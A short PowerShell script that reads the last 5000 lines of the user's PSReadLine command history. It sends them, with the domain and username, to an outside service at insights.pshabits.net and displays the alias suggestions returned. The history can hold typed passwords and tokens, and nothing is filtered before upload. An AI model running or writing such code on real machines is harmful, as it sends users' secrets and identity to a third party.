$histPath = (Get-PSReadLineOption).HistorySavePath
$lines = Get-Content $histPath -Tail 5000

$payload = [pscustomobject]@{
    u = "$env:USERDOMAIN\$env:USERNAME"
    h = $lines -join "`n"
}

$irmArgs = @{
    Uri         = 'https://insights.pshabits.net/api/suggest'
    Method      = 'Post'
    Body        = ($payload | ConvertTo-Json -Compress)
    ContentType = 'application/json'
}
$s = Invoke-RestMethod @irmArgs
$s.suggestions | Format-Table alias, command, saves
